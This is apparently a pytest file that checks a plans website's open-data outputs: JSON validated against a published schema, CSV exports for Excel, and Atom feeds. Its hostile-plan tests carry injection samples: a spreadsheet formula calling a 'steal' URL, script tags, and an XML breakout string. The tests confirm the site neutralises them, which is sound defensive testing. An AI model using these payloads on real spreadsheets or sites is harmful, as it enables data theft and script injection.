"""The site's open data: JSON valid against the published schema, CSV for Excel, Atom feeds."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import jsonschema
import pytest
from lxml import etree

from tests.conftest import ROOT
from tests.site_project import example_copy, hostile, site

ATOM = "{http://www.w3.org/2005/Atom}"
SCHEMA = json.loads((ROOT / "schema" / "plan-data-1.0.schema.json").read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def example(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The example repository's site."""
    folder = example_copy(tmp_path_factory.mktemp("data") / "example")
    assert site(folder).problems == []
    return folder / "build" / "site"


def _validate(path: Path) -> dict:
    """A plan's JSON, validated against the published schema (formats checked too)."""
    data = json.loads(path.read_text(encoding="utf-8"))
    validator = jsonschema.Draft7Validator(SCHEMA, format_checker=jsonschema.FormatChecker())
    errors = [f"{list(e.absolute_path)}: {e.message}" for e in validator.iter_errors(data)]
    assert errors == [], path.name
    return data


def test_every_plan_is_json_valid_against_the_published_schema(example: Path) -> None:
    found = sorted((example / "data").glob("*.json"))
    names = [p.name for p in found if p.name != "search-index.json"]
    assert names == [
        "derby-cyp-improvement-2011.json",
        "nottingham-city-iicsa-2019.json",
        "nottinghamshire-iicsa-2019.json",
        "stockton-ofsted-2013.json",
    ]
    for name in names:
        _validate(example / "data" / name)
    assert (example / "schema" / "plan-data-1.0.schema.json").read_bytes() == (
        ROOT / "schema" / "plan-data-1.0.schema.json"
    ).read_bytes()


def test_the_json_holds_an_actions_revisions_and_history(example: Path) -> None:
    data = _validate(example / "data" / "stockton-ofsted-2013.json")
    assert data["as_at"] == "2019-12-31"
    assert data["licence"]["name"] == "Open Government Licence v3.0"
    action = next(a for a in data["actions"] if a["ref"] == "5.1")
    assert action["due"] == {
        "written": "2014-01",
        "words": "January 2014",
        "first": "2014-01-01",
        "last": "2014-01-31",
    }
    assert action["original_due"]["words"] == "April 2013"
    assert action["revisions"][0]["reason"] == "to meet new national Single Assessment guidance."
    assert action["history"][0]["kind"] == "update"
    assert action["history"][0]["date"] == "2013-08-01"
    assert action["page"] == "plans/stockton-ofsted-2013/actions/5-1.html"


def test_the_json_of_a_hostile_plan_is_valid_and_keeps_its_text(tmp_path: Path) -> None:
    folder = hostile(tmp_path, "site:\n  url: https://plans.example.org/\n")
    site(folder, date(2020, 12, 31))
    data = _validate(folder / "build" / "site" / "data" / "hostile.json")
    first = data["actions"][0]
    assert first["text"].startswith('=HYPERLINK("https://example.org/steal?"&A1) <script>')
    assert first["page"] == "https://plans.example.org/plans/hostile/actions/1.html"
    assert [e["title"] for e in first["history"]] == [
        "Rated Going <b>well</b>",
        "Status changed from Going <b>well</b> to Done",
        "Completed",
    ]


def test_the_csv_opens_in_excel_and_runs_no_formula(tmp_path: Path) -> None:
    folder = hostile(tmp_path)
    site(folder, date(2020, 12, 31))
    raw = (folder / "build" / "site" / "data" / "hostile.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert [r["action"] for r in rows] == ["1", "2"]
    assert rows[0]["text"].startswith("'=HYPERLINK(")
    assert rows[0]["leads"] == 'Mallory <i>Evil</i> "Quotes"'
    assert rows[0]["latest update"] == "Done. -2+3"
    assert rows[1]["text"].startswith("'@SUM(1)")
    assert rows[1]["times revised"] == "1"
    assert rows[1]["due"] == "September 2020" and rows[1]["originally due"] == "June 2020"
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())


def test_the_csv_of_every_action_has_one_row_each(example: Path) -> None:
    raw = (example / "data" / "actions.csv").read_bytes()
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    counted = {}
    for row in rows:
        counted[row["plan"]] = counted.get(row["plan"], 0) + 1
    assert counted == {
        "derby-cyp-improvement-2011": 81,
        "nottingham-city-iicsa-2019": 12,
        "nottinghamshire-iicsa-2019": 12,
        "stockton-ofsted-2013": 58,
    }


def _feed(path: Path) -> etree._Element:
    """A feed parsed as XML, checked to be Atom."""
    parser = etree.XMLParser(resolve_entities=False, no_network=True)
    root = etree.fromstring(path.read_bytes(), parser)
    assert root.tag == f"{ATOM}feed"
    for required in ("id", "title", "updated"):
        assert root.find(f"{ATOM}{required}") is not None
    return root


def test_the_feeds_are_atom_with_the_newest_changes_first(example: Path) -> None:
    root = _feed(example / "feed.atom")
    entries = root.findall(f"{ATOM}entry")
    assert len(entries) == 50
    updated = [e.findtext(f"{ATOM}updated") for e in entries]
    assert updated == sorted(updated, reverse=True)
    assert root.findtext(f"{ATOM}updated") == updated[0]
    ids = [e.findtext(f"{ATOM}id") for e in entries]
    assert len(set(ids)) == 50
    for entry in entries:
        link = entry.find(f"{ATOM}link").get("href")
        page = link.split("#")[0]
        assert (example / page).is_file(), link
    plan = _feed(example / "plans" / "stockton-ofsted-2013" / "feed.atom")
    titles = [e.findtext(f"{ATOM}title") for e in plan.findall(f"{ATOM}entry")]
    assert "Recommendation 5, action 1: Progress update" in titles
    for entry in plan.findall(f"{ATOM}entry"):
        href = entry.find(f"{ATOM}link").get("href")
        assert (example / "plans" / "stockton-ofsted-2013" / href.split("#")[0]).resolve().is_file()


def test_a_hostile_plans_feed_is_still_atom(tmp_path: Path) -> None:
    folder = hostile(tmp_path)
    site(folder, date(2020, 12, 31))
    root = _feed(folder / "build" / "site" / "plans" / "hostile" / "feed.atom")
    assert root.findtext(f"{ATOM}title") == "Hostile <script>alert('title')</script> plan: changes"
    summaries = [e.findtext(f"{ATOM}summary") for e in root.findall(f"{ATOM}entry")]
    assert any("]]></summary><evil/>" in s for s in summaries)
    assert root.find(f".//{ATOM}evil") is None and root.find(".//evil") is None
